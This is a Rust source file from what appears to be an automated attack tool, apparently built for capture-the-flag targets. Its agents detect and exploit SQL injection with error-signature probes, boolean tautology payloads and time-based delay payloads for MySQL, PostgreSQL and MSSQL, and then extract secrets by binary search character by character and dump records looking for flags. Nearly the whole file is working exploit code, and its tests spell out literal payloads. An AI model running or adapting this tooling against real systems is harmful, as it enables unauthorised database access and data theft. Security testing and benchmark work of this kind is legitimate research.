//! SQL injection agents: error-signature differential, boolean differential,
//! and time-blind inference with conditional-delay extraction.

use std::collections::BTreeMap;

use async_trait::async_trait;
use once_cell::sync::Lazy;
use serde::{Deserialize, Serialize};

use super::{Agent, AgentCx, AgentError, AgentOutput};
use crate::http::{HttpError, TimingBaseline};
use crate::payload::SQLI_SEEDS;
use crate::state::{
    AttemptOutcome, Channel, Evidence, EvidenceDetail, Finding, FrameworkHint, InjectionPoint,
    TraceRequest, VulnClass,
};

pub const DB_ERRORS_JSON: &str = include_str!("../../data/signatures/db-errors-v1.json");

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum DbBackend {
    MysqlLike,
    PostgresLike,
    SqliteLike,
    MssqlLike,
    Unknown,
}

impl DbBackend {
    pub fn as_str(&self) -> &'static str {
        match self {
            DbBackend::MysqlLike => "mysql_like",
            DbBackend::PostgresLike => "postgres_like",
            DbBackend::SqliteLike => "sqlite_like",
            DbBackend::MssqlLike => "mssql_like",
            DbBackend::Unknown => "unknown",
        }
    }
}

/// Backend identified from matched error substrings; never `unknown` with a
/// non-empty evidence list and never a named backend without evidence.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct DbFingerprint {
    pub backend: DbBackend,
    pub evidence_strings: Vec<String>,
}

#[derive(Debug, Deserialize)]
struct ErrorCorpus {
    schema: String,
    backends: BTreeMap<String, Vec<String>>,
}

static ERROR_CORPUS: Lazy<Vec<(DbBackend, Vec<String>)>> = Lazy::new(|| {
    let corpus: ErrorCorpus = serde_json::from_str(DB_ERRORS_JSON).expect("db error corpus");
    assert_eq!(corpus.schema, "awe-db-errors-v1");
    corpus
        .backends
        .into_iter()
        .map(|(name, sigs)| {
            let backend = match name.as_str() {
                "mysql_like" => DbBackend::MysqlLike,
                "postgres_like" => DbBackend::PostgresLike,
                "sqlite_like" => DbBackend::SqliteLike,
                "mssql_like" => DbBackend::MssqlLike,
                other => panic!("unknown backend {other:?} in corpus"),
            };
            (backend, sigs)
        })
        .collect()
});

/// Match a response body against the error-signature corpus.
pub fn match_error_signature(body: &str) -> Option<DbFingerprint> {
    for (backend, signatures) in ERROR_CORPUS.iter() {
        let matched: Vec<String> =
            signatures.iter().filter(|s| body.contains(s.as_str())).cloned().collect();
        if !matched.is_empty() {
            return Some(DbFingerprint { backend: *backend, evidence_strings: matched });
        }
    }
    None
}

fn injectable_point(point: &InjectionPoint) -> bool {
    matches!(point.channel, Channel::Query | Channel::BodyField)
}

/// Error-based scan: quote/paren/comment probes matched against the
/// signature corpus, confirmed by a balanced-vs-unbalanced differential
/// before any finding is emitted.
pub async fn sqli_error_scan(
    cx: &mut AgentCx<'_>,
    point: &InjectionPoint,
) -> Result<Option<(Finding, DbFingerprint)>, AgentError> {
    let siblings = cx.siblings(point);
    let session = cx.session.clone();
    let base = &point.baseline_value;

    let baseline = cx
        .engine
        .execute_tagged(point, base.as_bytes(), &siblings, session.as_ref(), "probe")
        .await?;
    let baseline_body = baseline.body_text().into_owned();
    if match_error_signature(&baseline_body).is_some() {
        // A static error page is noise, not signal.
        return Ok(None);
    }

    for probe in &SQLI_SEEDS.probes {
        if cx.out_of_time() {
            break;
        }
        let value = format!("{base}{probe}");
        if cx.suppressed(&point.key(), VulnClass::SqliError, value.as_bytes()) {
            continue;
        }
        let resp = cx
            .engine
            .execute_tagged(point, value.as_bytes(), &siblings, session.as_ref(), "probe")
            .await?;
        let body = resp.body_text().into_owned();
        let Some(fingerprint) = match_error_signature(&body) else {
            cx.register(
                &point.key(),
                VulnClass::SqliError,
                value.as_bytes(),
                AttemptOutcome::NoSignal,
                body.as_bytes(),
            );
            continue;
        };
        cx.register(
            &point.key(),
            VulnClass::SqliError,
            value.as_bytes(),
            AttemptOutcome::PartialSignal,
            body.as_bytes(),
        );

        // Confirm: the balanced variant must not error.
        let balanced_value = format!("{base}{}", SQLI_SEEDS.confirm_balanced_suffix);
        let balanced = cx
            .engine
            .execute_tagged(point, balanced_value.as_bytes(), &siblings, session.as_ref(), "probe")
            .await?;
        let balanced_body = balanced.body_text().into_owned();
        if match_error_signature(&balanced_body).is_some() {
            // Error on both sides of the differential: static error page.
            cx.register(
                &point.key(),
                VulnClass::SqliError,
                balanced_value.as_bytes(),
                AttemptOutcome::NoSignal,
                balanced_body.as_bytes(),
            );
            return Ok(None);
        }
        cx.register(
            &point.key(),
            VulnClass::SqliError,
            balanced_value.as_bytes(),
            AttemptOutcome::PartialSignal,
            balanced_body.as_bytes(),
        );

        // Exploitation: tautology dump, scanning for the flag.
        let mut trace: Vec<TraceRequest> =
            vec![resp.request.clone(), balanced.request.clone()];
        let mut final_payload = value.clone();
        let mut flag = None;
        let mut dump_body: Vec<u8> = Vec::new();
        for suffix in &SQLI_SEEDS.dump_suffixes {
            let dump_value = format!("{base}{suffix}");
            let dump = cx
                .engine
                .execute_tagged(
                    point,
                    dump_value.as_bytes(),
                    &siblings,
                    session.as_ref(),
                    "exploit",
                )
                .await?;
            let dump_text = dump.body_text().into_owned();
            let found = cx.flag_in(dump_text.as_bytes());
            let outcome = if found.is_some() {
                AttemptOutcome::PartialSignal
            } else {
                AttemptOutcome::NoSignal
            };
            cx.register(
                &point.key(),
                VulnClass::SqliError,
                dump_value.as_bytes(),
                outcome,
                dump_text.as_bytes(),
            );
            if found.is_some() {
                trace.push(dump.request.clone());
                final_payload = dump_value;
                flag = found;
                dump_body = dump.body;
                break;
            }
        }

        let finding = Finding {
            vuln_class: VulnClass::SqliError,
            point: point.key(),
            payload: final_payload.clone().into_bytes(),
            evidence: Evidence {
                detail: EvidenceDetail::DifferentialResponse {
                    summary: format!(
                        "sql syntax error on unbalanced quote, absent when balanced; backend={}",
                        fingerprint.backend.as_str()
                    ),
                    matched_digest: cx.digests.digest(balanced_body.as_bytes()),
                    differing_digest: cx.digests.digest(body.as_bytes()),
                },
                request_trace: trace,
            },
            solved_flag: flag,
            elapsed_s: cx.elapsed_s(),
            tokens_spent: cx.tokens_spent(),
            exploit_attempts: 1,
        };
        cx.emit_finding(finding.clone(), &dump_body);
        return Ok(Some((finding, fingerprint)));
    }
    Ok(None)
}

/// Boolean differential: TRUE/FALSE condition pairs digested against the
/// baseline, repeated twice; exactly one side must match the baseline class.
pub async fn sqli_boolean_scan(
    cx: &mut AgentCx<'_>,
    point: &InjectionPoint,
) -> Result<Option<Finding>, AgentError> {
    let siblings = cx.siblings(point);
    let session = cx.session.clone();
    let base = &point.baseline_value;
    let true_value = format!("{base}' OR '1'='1");
    let false_value = format!("{base}' AND '1'='2");

    let mut digests: Vec<(String, String, String)> = Vec::new(); // (base, true, false)
    let mut true_resp_body = Vec::new();
    let mut trace = Vec::new();
    for round in 0..2 {
        let baseline = cx
            .engine
            .execute_tagged(point, base.as_bytes(), &siblings, session.as_ref(), "probe")
            .await?;
        let t = cx
            .engine
            .execute_tagged(point, true_value.as_bytes(), &siblings, session.as_ref(), "probe")
            .await?;
        let f = cx
            .engine
            .execute_tagged(point, false_value.as_bytes(), &siblings, session.as_ref(), "probe")
            .await?;
        digests.push((
            cx.digests.digest(&baseline.body),
            cx.digests.digest(&t.body),
            cx.digests.digest(&f.body),
        ));
        if round == 0 {
            trace = vec![baseline.request.clone(), t.request.clone(), f.request.clone()];
            true_resp_body = t.body.clone();
        }
        cx.register(
            &point.key(),
            VulnClass::SqliBoolean,
            true_value.as_bytes(),
            AttemptOutcome::PartialSignal,
            &t.body,
        );
        cx.register(
            &point.key(),
            VulnClass::SqliBoolean,
            false_value.as_bytes(),
            AttemptOutcome::PartialSignal,
            &f.body,
        );
    }

    let (b1, t1, f1) = digests[0].clone();
    let (b2, t2, f2) = digests[1].clone();
    let stable = b1 == b2 && t1 == t2 && f1 == f2;
    let true_matches = t1 == b1;
    let false_matches = f1 == b1;
    let differential = stable && (true_matches ^ false_matches);
    if !differential {
        return Ok(None);
    }

    let (matched_digest, differing_digest, payload) = if true_matches {
        (t1, f1, false_value)
    } else {
        (f1, t1, true_value)
    };
    let flag = cx.flag_in(&true_resp_body);
    let finding = Finding {
        vuln_class: VulnClass::SqliBoolean,
        point: point.key(),
        payload: payload.into_bytes(),
        evidence: Evidence {
            detail: EvidenceDetail::DifferentialResponse {
                summary: "boolean condition flips response class consistently across 2 rounds"
                    .to_string(),
                matched_digest,
                differing_digest,
            },
            request_trace: trace,
        },
        solved_flag: flag,
        elapsed_s: cx.elapsed_s(),
        tokens_spent: cx.tokens_spent(),
        exploit_attempts: 2,
    };
    cx.emit_finding(finding.clone(), &true_resp_body);
    Ok(Some(finding))
}

struct DelayGrammar {
    backend: DbBackend,
    unconditional: fn(&str, f64) -> String,
    conditional: fn(&str, &str, f64) -> String,
    condition: fn(&str, usize, u32) -> String,
}

fn mysql_uncond(base: &str, d: f64) -> String {
    format!("{base}' AND SLEEP({d})-- ")
}
fn mysql_cond(base: &str, cond: &str, d: f64) -> String {
    format!("{base}' AND IF({cond},SLEEP({d}),0)-- ")
}
fn mysql_condition(query: &str, pos: usize, n: u32) -> String {
    format!("ASCII(SUBSTRING({query},{pos},1))<{n}")
}
fn pg_uncond(base: &str, d: f64) -> String {
    format!("{base}' AND (SELECT 1 FROM pg_sleep({d}))-- ")
}
fn pg_cond(base: &str, cond: &str, d: f64) -> String {
    format!(
        "{base}' AND (SELECT CASE WHEN {cond} THEN (SELECT 1 FROM pg_sleep({d})) ELSE 1 END)-- "
    )
}
fn pg_condition(query: &str, pos: usize, n: u32) -> String {
    format!("ASCII(SUBSTRING({query},{pos},1))<{n}")
}
fn mssql_uncond(base: &str, d: f64) -> String {
    format!("{base}'; WAITFOR DELAY '0:0:{d}'-- ")
}
fn mssql_cond(base: &str, cond: &str, d: f64) -> String {
    format!("{base}'; IF({cond}) WAITFOR DELAY '0:0:{d}'-- ")
}
fn mssql_condition(query: &str, pos: usize, n: u32) -> String {
    format!("ASCII(SUBSTRING({query},{pos},1))<{n}")
}

fn grammars_for(hints: &[FrameworkHint]) -> Vec<DelayGrammar> {
    let mysql = DelayGrammar {
        backend: DbBackend::MysqlLike,
        unconditional: mysql_uncond,
        conditional: mysql_cond,
        condition: mysql_condition,
    };
    let pg = DelayGrammar {
        backend: DbBackend::PostgresLike,
        unconditional: pg_uncond,
        conditional: pg_cond,
        condition: pg_condition,
    };
    let mssql = DelayGrammar {
        backend: DbBackend::MssqlLike,
        unconditional: mssql_uncond,
        conditional: mssql_cond,
        condition: mssql_condition,
    };
    if hints.contains(&FrameworkHint::Python) {
        vec![pg, mysql, mssql]
    } else if hints.contains(&FrameworkHint::Java) {
        vec![mssql, mysql, pg]
    } else {
        vec![mysql, pg, mssql]
    }
}

/// Time an injected value; strictly serial (timing integrity).
async fn timed_probe(
    cx: &mut AgentCx<'_>,
    point: &InjectionPoint,
    value: &str,
    class: VulnClass,
) -> Result<(u64, TraceRequest, Vec<u8>), AgentError> {
    let siblings = cx.siblings(point);
    let session = cx.session.clone();
    let resp = cx
        .engine
        .execute_tagged(point, value.as_bytes(), &siblings, session.as_ref(), "timing")
        .await?;
    cx.register(&point.key(), class, value.as_bytes(), AttemptOutcome::PartialSignal, &resp.body);
    Ok((resp.elapsed_ms, resp.request.clone(), resp.body))
}

pub struct BlindScanResult {
    pub finding: Option<Finding>,
    pub fingerprint: Option<DbFingerprint>,
    pub extracted: Option<String>,
    pub partial: bool,
}

/// Time-blind scan: per-backend delay constructs with a median-of-3 decision
/// rule and a zero-delay control, then conditional-delay binary search over
/// 7-bit ASCII, at most 7 timed probes per character.
pub async fn sqli_blind_time(
    cx: &mut AgentCx<'_>,
    point: &InjectionPoint,
    baseline: &TimingBaseline,
) -> Result<BlindScanResult, AgentError> {
    assert!(baseline.samples >= 5, "blind scan precondition: baseline samples >= 5");
    let detect_d = cx.config.detect_delay_ms as f64 / 1000.0;
    let extract_d = cx.config.extract_delay_ms as f64 / 1000.0;
    let base = point.baseline_value.clone();
    let positive_threshold = baseline.median_ms + 0.8 * cx.config.detect_delay_ms as f64;
    let control_band = baseline.median_ms + (100.0_f64).max(5.0 * baseline.mad_ms);

    let mut result =
        BlindScanResult { finding: None, fingerprint: None, extracted: None, partial: false };

    let mut detected: Option<(DelayGrammar, TraceRequest, u64)> = None;
    for grammar in grammars_for(&cx.state.tech.framework_hints.clone()) {
        if cx.out_of_time() {
            return Ok(result);
        }
        let injected = (grammar.unconditional)(&base, detect_d);
        let mut timings = Vec::with_capacity(3);
        let mut delayed_req = None;
        for _ in 0..3 {
            let (elapsed, req, _) =
                timed_probe(cx, point, &injected, VulnClass::SqliBlindTime).await?;
            timings.push(elapsed as f64);
            delayed_req = Some(req);
        }
        let median3 = crate::http::median(&timings);
        if median3 < positive_threshold {
            continue;
        }
        // Zero-delay control must stay inside the baseline noise band.
        let control_value = (grammar.unconditional)(&base, 0.0);
        let (control_elapsed, _, _) =
            timed_probe(cx, point, &control_value, VulnClass::SqliBlindTime).await?;
        if (control_elapsed as f64) > control_band {
            tracing::debug!(
                control_elapsed,
                control_band,
                "control probe delayed; rejecting as noise"
            );
            continue;
        }
        result.fingerprint = Some(DbFingerprint {
            backend: grammar.backend,
            evidence_strings: vec![format!(
                "median of 3 injected timings {median3:.0}ms >= {positive_threshold:.0}ms; control {control_elapsed}ms within band"
            )],
        });
        detected = Some((grammar, delayed_req.expect("three probes ran"), median3 as u64));
        break;
    }

    let Some((grammar, delayed_req, injected_median)) = detected else {
        return Ok(result);
    };

    // Character-by-character extraction: binary search over [0,128).
    let query = cx.config.blind_extract_query.clone();
    let extract_threshold = baseline.median_ms + 0.8 * cx.config.extract_delay_ms as f64;
    let mut secret = String::new();
    let mut budget_hit = false;
    'extract: for pos in 1..=cx.config.max_extract_len {
        let mut lo: u32 = 0;
        let mut hi: u32 = 128;
        while hi - lo > 1 {
            if cx.out_of_time() {
                budget_hit = true;
                break 'extract;
            }
            let mid = (lo + hi) / 2;
            let cond = (grammar.condition)(&query, pos, mid);
            let value = (grammar.conditional)(&base, &cond, extract_d);
            let elapsed = match timed_probe(cx, point, &value, VulnClass::SqliBlindTime).await {
                Ok((e, _, _)) => e,
                Err(err) if err.is_budget() => {
                    budget_hit = true;
                    break 'extract;
                }
                Err(err) => return Err(err),
            };
            if (elapsed as f64) >= extract_threshold {
                hi = mid; // condition "char < mid" held
            } else {
                lo = mid;
            }
        }
        if lo == 0 {
            break; // past the end of the secret
        }
        secret.push(char::from_u32(lo).unwrap_or('?'));
    }

    let detection_payload = (grammar.unconditional)(&base, detect_d);
    if secret.is_empty() || budget_hit {
        // Timing differential alone is still evidence; extraction is marked
        // partial.
        result.partial = true;
        result.extracted = (!secret.is_empty()).then(|| secret.clone());
        let finding = Finding {
            vuln_class: VulnClass::SqliBlindTime,
            point: point.key(),
            payload: detection_payload.clone().into_bytes(),
            evidence: Evidence {
                detail: EvidenceDetail::TimingDifferential {
                    baseline_ms: baseline.median_ms as u64,
                    injected_ms: injected_median,
                    threshold_ms: positive_threshold as u64,
                },
                request_trace: vec![delayed_req],
            },
            solved_flag: None,
            elapsed_s: cx.elapsed_s(),
            tokens_spent: cx.tokens_spent(),
            exploit_attempts: 4,
        };
        cx.emit_finding(finding.clone(), b"");
        result.finding = Some(finding);
        return Ok(result);
    }

    // Use the extracted secret: fetch the record it names and scan for the
    // flag.
    let siblings = cx.siblings(point);
    let session = cx.session.clone();
    let fetch = cx
        .engine
        .execute_tagged(point, secret.as_bytes(), &siblings, session.as_ref(), "exploit")
        .await?;
    let fetch_body = fetch.body_text().into_owned();
    let flag = cx.flag_in(fetch_body.as_bytes());

    // Compact replayable trace: one delayed probe, one control, final fetch.
    let control_req = {
        let cond = (grammar.condition)(&query, 1, 0); // ascii(c1) < 0 is always false
        let value = (grammar.conditional)(&base, &cond, extract_d);
        let (_, req, _) = timed_probe(cx, point, &value, VulnClass::SqliBlindTime).await?;
        req
    };
    let finding = Finding {
        vuln_class: VulnClass::SqliBlindTime,
        point: point.key(),
        payload: detection_payload.into_bytes(),
        evidence: Evidence {
            detail: EvidenceDetail::ExtractedData { data: secret.clone().into_bytes() },
            request_trace: vec![delayed_req, control_req, fetch.request.clone()],
        },
        solved_flag: flag,
        elapsed_s: cx.elapsed_s(),
        tokens_spent: cx.tokens_spent(),
        exploit_attempts: 4,
    };
    cx.emit_finding(finding.clone(), fetch_body.as_bytes());
    result.extracted = Some(secret);
    result.finding = Some(finding);
    Ok(result)
}

fn eligible_points(cx: &AgentCx<'_>) -> Vec<InjectionPoint> {
    cx.state.surface.iter().filter(|p| injectable_point(p)).cloned().collect()
}

pub struct SqliErrorAgent;

#[async_trait]
impl Agent for SqliErrorAgent {
    fn class(&self) -> VulnClass {
        VulnClass::SqliError
    }

    async fn run(&self, cx: &mut AgentCx<'_>) -> Result<AgentOutput, AgentError> {
        let mut output = AgentOutput::default();
        let mut fingerprints = serde_json::Map::new();
        for point in eligible_points(cx) {
            if cx.out_of_time() {
                break;
            }
            match sqli_error_scan(cx, &point).await {
                Ok(Some((_, fingerprint))) => {
                    output.findings_added += 1;
                    fingerprints.insert(
                        point.key().to_string(),
                        serde_json::to_value(&fingerprint).expect("fingerprint serializes"),
                    );
                    if cx.state.solved() {
                        break;
                    }
                }
                Ok(None) => {}
                Err(err) if err.is_budget() => return Err(err),
                Err(err) => tracing::debug!(%err, "error scan failed on point"),
            }
        }
        output.notes = serde_json::json!({ "db_fingerprints": fingerprints });
        Ok(output)
    }
}

pub struct SqliBooleanAgent;

#[async_trait]
impl Agent for SqliBooleanAgent {
    fn class(&self) -> VulnClass {
        VulnClass::SqliBoolean
    }

    async fn run(&self, cx: &mut AgentCx<'_>) -> Result<AgentOutput, AgentError> {
        let mut output = AgentOutput::default();
        for point in eligible_points(cx) {
            if cx.out_of_time() {
                break;
            }
            match sqli_boolean_scan(cx, &point).await {
                Ok(Some(_)) => {
                    output.findings_added += 1;
                    if cx.state.solved() {
                        break;
                    }
                }
                Ok(None) => {}
                Err(err) if err.is_budget() => return Err(err),
                Err(err) => tracing::debug!(%err, "boolean scan failed on point"),
            }
        }
        Ok(output)
    }
}

pub struct SqliBlindTimeAgent;

#[async_trait]
impl Agent for SqliBlindTimeAgent {
    fn class(&self) -> VulnClass {
        VulnClass::SqliBlindTime
    }

    async fn run(&self, cx: &mut AgentCx<'_>) -> Result<AgentOutput, AgentError> {
        let mut output = AgentOutput::default();
        let mut notes = serde_json::Map::new();
        // Timing probes are expensive; restrict to query/body points.
        for point in eligible_points(cx) {
            if cx.out_of_time() {
                break;
            }
            let siblings = cx.siblings(&point);
            let baseline = match cx
                .engine
                .measure_baseline(&point, cx.config.baseline_samples, &siblings)
                .await
            {
                Ok(b) => b,
                Err(HttpError::BudgetExhausted) => return Err(HttpError::BudgetExhausted.into()),
                Err(err) => {
                    tracing::debug!(%err, "baseline unmeasurable");
                    continue;
                }
            };
            match sqli_blind_time(cx, &point, &baseline).await {
                Ok(result) => {
                    if let Some(fp) = &result.fingerprint {
                        notes.insert(
                            point.key().to_string(),
                            serde_json::json!({
                                "fingerprint": fp,
                                "extracted": result.extracted,
                                "partial": result.partial,
                            }),
                        );
                    }
                    if result.finding.is_some() {
                        output.findings_added += 1;
                        if cx.state.solved() {
                            break;
                        }
                    }
                }
                Err(err) if err.is_budget() => return Err(err),
                Err(err) => tracing::debug!(%err, "blind scan failed on point"),
            }
        }
        output.notes = serde_json::json!({ "blind": notes });
        Ok(output)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn corpus_matches_personas() {
        let mysql = match_error_signature(
            "You have an error in your SQL syntax; check the manual",
        )
        .unwrap();
        assert_eq!(mysql.backend, DbBackend::MysqlLike);
        assert!(!mysql.evidence_strings.is_empty());

        let pg = match_error_signature("psycopg2.errors.SyntaxError: unterminated").unwrap();
        assert_eq!(pg.backend, DbBackend::PostgresLike);

        let sqlite = match_error_signature("SQLITE_ERROR: unrecognized token").unwrap();
        assert_eq!(sqlite.backend, DbBackend::SqliteLike);

        let mssql = match_error_signature("Unclosed quotation mark after the char").unwrap();
        assert_eq!(mssql.backend, DbBackend::MssqlLike);

        assert!(match_error_signature("perfectly healthy page").is_none());
    }

    #[test]
    fn grammar_order_follows_tech_hints() {
        let php = grammars_for(&[FrameworkHint::Php]);
        assert_eq!(php[0].backend, DbBackend::MysqlLike);
        let py = grammars_for(&[FrameworkHint::Python]);
        assert_eq!(py[0].backend, DbBackend::PostgresLike);
        let java = grammars_for(&[FrameworkHint::Java]);
        assert_eq!(java[0].backend, DbBackend::MssqlLike);
    }

    #[test]
    fn mysql_grammar_shapes() {
        assert_eq!(mysql_uncond("1", 2.0), "1' AND SLEEP(2)-- ");
        assert_eq!(
            mysql_cond("1", "ASCII(SUBSTRING((SELECT secret),1,1))<64", 1.5),
            "1' AND IF(ASCII(SUBSTRING((SELECT secret),1,1))<64,SLEEP(1.5),0)-- "
        );
        assert_eq!(
            mysql_condition("(SELECT secret)", 3, 64),
            "ASCII(SUBSTRING((SELECT secret),3,1))<64"
        );
    }

    #[test]
    fn binary_search_probe_count_is_log2_128() {
        // 7 probes narrow [0,128) to a single code point.
        let mut lo = 0u32;
        let mut hi = 128u32;
        let target = 0x6b; // 'k'
        let mut probes = 0;
        while hi - lo > 1 {
            probes += 1;
            let mid = (lo + hi) / 2;
            if target < mid {
                hi = mid;
            } else {
                lo = mid;
            }
        }
        assert_eq!(probes, 7);
        assert_eq!(lo, target);
    }
}
